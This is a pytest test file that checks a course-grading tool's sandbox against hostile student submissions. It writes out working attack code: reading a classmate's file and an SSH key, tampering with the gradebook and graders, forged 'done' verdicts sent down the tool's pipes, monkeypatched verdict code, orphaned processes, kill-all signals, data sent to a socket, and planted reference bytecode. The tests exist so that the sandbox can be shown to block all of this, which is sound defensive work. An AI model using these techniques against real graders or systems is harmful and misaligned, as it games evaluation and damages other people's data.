"""Hostile submissions against `tfkata grade`: each forgery or piece of sabotage ends as a non-pass or a
flagged row, classmates' verdicts are unchanged, nothing outside the gradebook changes, and no process
is left behind.

One class is graded once, through the real command, in its sandboxes (tfkata.sandbox). Each hostile
submission attacks from ``scale_pixels`` and answers ``normalize_features`` correctly, so its row
shows what the attack cost it: 0 + 5 points. The attacks know every absolute path of the machine
(the strongest attacker: a learner who guessed them).
"""

from __future__ import annotations

import csv
import hashlib
import importlib.util
import marshal
import os
import re
import socket
import threading
from pathlib import Path

import pytest
from helpers import learner_folder, snapshot, tfkata
from tfkata import gradebook, sandbox, submissions
from tfkata.paths import GRADERS, ROOT, SOLUTIONS, STUBS

pytestmark = [pytest.mark.full,  # hostile submissions graded in their sandboxes
              pytest.mark.skipif(sandbox.problem() is not None, reason=f"no sandbox here: {sandbox.problem()}")]

GRADED = "fundamentals.scale_pixels,fundamentals.normalize_features,fundamentals.fit_and_evaluate"
SCALE = "def scale_pixels(images):\n"
FIT = "def fit_and_evaluate(model, x_train, y_train, x_test, y_test, epochs=5):\n"
DONE = ('{"event": "verdict", "verdict": {"exercise": "fundamentals.scale_pixels", "status": "done", "message": "", '
        '"tip": "", "output": ""}}')
FORGE = f"""
import gc, multiprocessing.connection as mc
for o in gc.get_objects():
    if isinstance(o, mc.Connection):
        try: o.send_bytes({DONE!r}.encode())
        except Exception: pass
"""
RIGHT = "    return np.asarray(images, dtype='float32') / 255.0\n"
WRONG = "    return np.asarray(images, dtype='float32')\n"
ORPHAN = "tfkata-orphan"
SECRET = "SECRET-" + hashlib.sha256(os.urandom(8)).hexdigest()[:12]


def attack(body: str, where: str = SCALE) -> dict[str, str]:
    """``scale_pixels`` (or the function ``where`` starts) that runs ``body`` first."""
    return {where: where + "".join(f"    {line}\n" for line in body.strip().splitlines())}


def _attacks(root: Path, out: Path, server: int) -> dict[str, dict[str, str] | None]:
    classmate = root / "submissions" / "alice" / "fundamentals.py"
    home_secret = root / "home" / ".ssh" / "id_rsa"
    return {
        # Reads what it must not see and prints it, so that it would land in the teacher's report.
        "reads": attack(f"""
for path in [{str(home_secret)!r}, {str(classmate)!r}, os.path.expanduser('~/.ssh/id_rsa')]:
    try: print(open(path).read())
    except OSError: pass
{WRONG.strip()}
"""),
        # Writes a classmate's results, the gradebook and a classmate's code; full marks if any write lands.
        "writes": attack(f"""
done = 0
for path in [{str(out / submissions.RESULTS / 'alice.json')!r}, {str(out / gradebook.CSV)!r}, {str(classmate)!r}]:
    try:
        open(path, 'a').write('#' + {SECRET!r}); done += 1
    except OSError: pass
if not done: return np.asarray(images, dtype='float32')
"""),
        # Runs the teacher's reference solution from the kit's own folder.
        "solutions": attack(f"""
import importlib.util
spec = importlib.util.spec_from_file_location('reference', {str(SOLUTIONS / 'fundamentals.py')!r})
reference = importlib.util.module_from_spec(spec); spec.loader.exec_module(reference)
return reference.scale_pixels(images)
"""),
        # Rewrites the graders and their manifest so that the change goes unnoticed.
        "regrades": attack(f"""
for path in [{str(GRADERS / 'test_fundamentals.py')!r}, {str(ROOT / 'tools' / 'tfkata' / 'grading.sha256')!r}]:
    open(path, 'a').write('# ' + {SECRET!r})
{RIGHT.strip()}
"""),
        # Leaves a process behind (double fork, its own session) that rewrites the results once grading is over.
        "lingers": attack(f"""
import ctypes, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, {ORPHAN.encode()!r})
        time.sleep(8)
        for path in [{str(out / submissions.RESULTS / 'lingers.json')!r}, {str(out / gradebook.CSV)!r}]:
            try: open(path, 'w').write({SECRET!r})
            except OSError: pass
    os._exit(0)
{WRONG.strip()}
"""),
        # Kills every process it may: siblings, the teacher's command, its own grading.
        "kills": attack("import signal\nos.kill(-1, signal.SIGKILL)"),
        # Sends the answer to a server of its own; right only when the network answers.
        "network": attack(f"""
import socket
socket.create_connection(('127.0.0.1', {server}), timeout=2).sendall(b'{SECRET}')
{RIGHT.strip()}
"""),
        # Ends the program with success, from a grandchild in its own session that holds the output open.
        "exits": attack("""
if os.fork() == 0:
    os.setsid(); import time; time.sleep(30); os._exit(0)
os._exit(0)
"""),
        # Sends "done" for itself down every channel it can find, then answers wrong.
        "forges": attack(FORGE + WRONG.strip()),
        # The same from another exercise of its module, one that trains the model it is given.
        "forges-beside": {**attack(FORGE, FIT), **attack(WRONG)},
        # Patches the kit's verdict code in its process, then answers wrong.
        "patches": attack("""
import sys
for name, module in list(sys.modules.items()):
    if name.startswith('tfkata') and hasattr(module, 'Verdict'):
        module.Verdict.fold = lambda self, *args, **kwargs: None
        module.Verdict.status = 'done'
""" + WRONG.strip()),
        # Forges at exit, when its process ends.
        "at-exit": attack("import atexit\natexit.register(lambda: exec(" + repr(FORGE) + "))" + "\n" + WRONG.strip()),
        # A link to a classmate's file.
        "links": None,
        # A stub beside a __pycache__ of the reference, stamped to match the stub.
        "bytecode": None,
    }


@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    lessons, out = root / "submissions", root / "gradebook"
    (root / "home" / ".ssh").mkdir(parents=True)
    (root / "home" / ".ssh" / "id_rsa").write_text(SECRET)
    listener = socket.create_server(("127.0.0.1", 0))
    heard: list[bytes] = []
    over = threading.Event()

    def serve():
        listener.settimeout(1)
        while not over.is_set():
            try:
                connection, _ = listener.accept()
            except OSError:
                continue
            heard.append(connection.recv(100))

    threading.Thread(target=serve, daemon=True).start()
    for name in ("alice", "bob"):
        learner_folder(lessons / name, modules=("fundamentals",))
        (lessons / name / "fundamentals.py").write_text(
            (lessons / name / "fundamentals.py").read_text() + f"\n# {name}'s: {SECRET}\n")
    for name, changes in _attacks(root, out, listener.getsockname()[1]).items():
        if changes is not None:
            learner_folder(lessons / name, changes, modules=("fundamentals",))
    (lessons / "links").mkdir()
    (lessons / "links" / "fundamentals.py").symlink_to(Path("..") / "alice" / "fundamentals.py")
    _stub_with_reference_bytecode(lessons / "bytecode")
    outside = snapshot(ROOT / "tools", ROOT / "tests", ROOT / "solutions", lessons, root / "home" / ".ssh")
    run = tfkata("grade", str(lessons), "--out", str(out), "--only", GRADED, "--jobs", "2", "--time-limit", "10",
                 env={"HOME": str(root / "home")}, timeout=600)
    over.set()
    return lessons, out, run, outside, root, heard


def _stub_with_reference_bytecode(folder: Path) -> None:
    folder.mkdir(parents=True)
    stub = folder / "fundamentals.py"
    stub.write_text((STUBS / "fundamentals.py").read_text())
    code = compile((SOLUTIONS / "fundamentals.py").read_text(), str(stub), "exec")
    stat = stub.stat()
    header = importlib.util.MAGIC_NUMBER + (0).to_bytes(4, "little") + \
        (int(stat.st_mtime) & 0xFFFFFFFF).to_bytes(4, "little") + (stat.st_size & 0xFFFFFFFF).to_bytes(4, "little")
    cache = Path(importlib.util.cache_from_source(str(stub)))
    cache.parent.mkdir()
    cache.write_bytes(header + marshal.dumps(code))


def _rows(out: Path) -> dict[str, dict[str, str]]:
    with open(out / gradebook.CSV, newline="", encoding="utf-8") as handle:
        return {row["submission"]: row for row in csv.DictReader(handle)}


def test_every_attack_costs_its_own_exercise_and_classmates_keep_their_points(hostile_class):
    _, out, run, *_ = hostile_class
    assert run.returncode == 0, run.stderr
    points = {name: (row["fundamentals.scale_pixels"], row["fundamentals.normalize_features"],
                     row["fundamentals.fit_and_evaluate"]) for name, row in _rows(out).items()}
    assert points.pop("alice") == points.pop("bob") == ("5", "5", "10")
    assert points.pop("links") == points.pop("bytecode") == ("0", "0", "0")  # nothing of theirs runs
    assert points.pop("kills")[:2] == ("0", "0")  # it killed its own grading, and only its own
    assert points == {name: ("0", "5", "10") for name in points}, points
    assert len(points) == 11


def test_nothing_outside_the_gradebook_changes_and_no_secret_reaches_it(hostile_class):
    lessons, out, _, outside, root, heard = hostile_class
    now = snapshot(ROOT / "tools", ROOT / "tests", ROOT / "solutions", lessons, root / "home" / ".ssh")
    assert [path for path in now.keys() | outside.keys() if now.get(path) != outside.get(path)] == []
    for path in out.rglob("*"):
        if path.is_file() and path.suffix != ".png":
            assert SECRET not in path.read_text(encoding="utf-8", errors="replace"), path
    assert heard == []  # no connection reached the machine's network


def test_no_process_outlives_the_grading(hostile_class):
    alive = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and (entry / "comm").read_text().strip() == ORPHAN:
                alive.append(entry.name)
        except OSError:
            pass
    assert alive == []


def test_each_attack_reads_as_what_it_did(hostile_class):
    _, out, _, _, _, _ = hostile_class
    from tfkata import reports

    def verdict(name):
        results, _ = reports.read_exercism((out / submissions.RESULTS / f"{name}.json").read_text())
        return results.verdicts["fundamentals.scale_pixels"]

    assert verdict("exits").status == "crashed" and "exit code 0" in verdict("exits").message
    assert {verdict(name).status for name in ("forges", "forges-beside", "patches", "at-exit")} == {"wrong"}
    assert verdict("kills").status == "crashed"
    assert "which this grading cannot see" in verdict("links").message
    assert verdict("bytecode").status == "not started"
    assert verdict("solutions").status == "wrong" and "No such file" in verdict("solutions").message
    assert verdict("regrades").status == "wrong" and "Read-only file system" in verdict("regrades").message


def test_a_rerun_grades_a_results_file_edited_since_again(hostile_class, tmp_path):
    _, out, _, _, _, _ = hostile_class
    record = submissions.graded_record(out)
    assert set(record) == set(_rows(out))
    forged = tmp_path / "forged.json"
    forged.write_text((out / submissions.RESULTS / "bob.json").read_text())
    bob = submissions.Submission("bob", Path("unused"), record["bob"]["digest"])
    assert submissions.unchanged(out, bob)
    original = (out / submissions.RESULTS / "bob.json").read_bytes()
    try:
        (out / submissions.RESULTS / "bob.json").write_bytes(re.sub(rb'"points": (\d+)', rb'"points": 1\1', original))
        assert not submissions.unchanged(out, bob)
    finally:
        (out / submissions.RESULTS / "bob.json").write_bytes(original)


def test_without_a_sandbox_grade_says_so_and_grades_only_when_told_unsafe(tmp_path):
    learner_folder(tmp_path / "submissions" / "ann", modules=("fundamentals",))
    env = {"TFKATA_BWRAP": str(tmp_path / "no-bwrap")}
    refused = tfkata("grade", str(tmp_path / "submissions"), "--out", str(tmp_path / "gradebook"), "--only",
                     "fundamentals.scale_pixels", env=env)
    assert refused.returncode == 2
    [line] = [line for line in refused.stderr.splitlines() if "sandbox" in line]
    assert "no sandbox on this machine" in line and "--unsafe" in line
    unsafe = tfkata("grade", str(tmp_path / "submissions"), "--out", str(tmp_path / "gradebook"), "--only",
                    "fundamentals.scale_pixels", "--unsafe", env=env)
    assert unsafe.returncode == 0, unsafe.stderr
    assert _rows(tmp_path / "gradebook")["ann"]["total"] == "5"


BESIDE = {  # exercises judged apart: one that trains, one that returns a pretrained base, one whose grader patches tfds
    "fundamentals.fit_and_evaluate": ("fundamentals", FIT),
    "transfer.alpaca_model": ("transfer", 'def alpaca_model(image_shape=(160, 160), data_augmentation=None, '
                                          'weights="imagenet"):\n'),
    "data.tfds_splits": ("data", 'def tfds_splits(name="tf_flowers", train_percent=80, data_dir=None):\n'),
}


@pytest.mark.parametrize("exercise", list(BESIDE))
def test_an_exercise_cannot_forge_its_own_verdict(tmp_path, exercise):
    """Forged "done" down every pipe from the exercise's own function: a model-training exercise judged apart
    too (its model crosses as configuration and weights, what the code did to it comes back as data), one that
    returns a whole pretrained model, and one whose grader registers its data set in the learner's process."""
    module, where = BESIDE[exercise]
    learner_folder(tmp_path / "submissions" / "eve", attack(FORGE.replace("fundamentals.scale_pixels", exercise)
                                                            + "return None", where), modules=(module,))
    run = tfkata("grade", str(tmp_path / "submissions"), "--out", str(tmp_path / "gradebook"), "--only", exercise)
    assert run.returncode == 0, run.stderr
    assert _rows(tmp_path / "gradebook")["eve"]["total"] == "0"


HOOK = "    def on_epoch_end(self, epoch, logs=None):\n"
HOOK_FORGE = FORGE.replace("fundamentals.scale_pixels", "callbacks.stop_at_accuracy") + """
import tfkata.results
tfkata.results.DONE = 'wrong'
"""


def test_a_callback_judged_apart_cannot_forge_from_its_hooks(tmp_path):
    """The learner's callback stays in its own process; each hook the grader calls runs there, and what it
    does beyond answering (forging down every pipe, patching tfkata) reaches no verdict."""
    body = "".join(f"        {line}\n" for line in HOOK_FORGE.strip().splitlines())
    learner_folder(tmp_path / "submissions" / "mallory",
                   {HOOK + "        if (": HOOK + body + "        if False and ("}, modules=("callbacks",))
    run = tfkata("grade", str(tmp_path / "submissions"), "--out", str(tmp_path / "gradebook"), "--only",
                 "callbacks.stop_at_accuracy")
    assert run.returncode == 0, run.stderr
    assert _rows(tmp_path / "gradebook")["mallory"]["total"] == "0"
    assert "kept training" in (tmp_path / "gradebook" / "results" / "mallory.json").read_text()  # its hook ran
